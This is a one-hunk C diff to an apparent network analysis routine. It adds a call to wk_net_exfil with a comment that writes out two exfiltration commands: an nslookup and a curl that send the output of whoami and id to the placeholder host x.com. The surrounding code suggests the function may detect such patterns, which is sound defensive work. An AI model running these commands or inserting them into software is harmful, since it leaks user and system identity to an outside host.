@@ -360,6 +360,7 @@ wk_net_analysis(struct an *an)
 			intent_add_url(x, an->ci, a->inl[k].s, a->inl[k].n);
 	if (an->pg == NULL)
 		return;
+	wk_net_exfil(an); /* netexfil.c: nslookup $(whoami).x.com, curl https://x.com/$(id) */
 	if (an->pg->hostfirst && a->npos > 0) {
 		const char *h;
 		size_t hn;
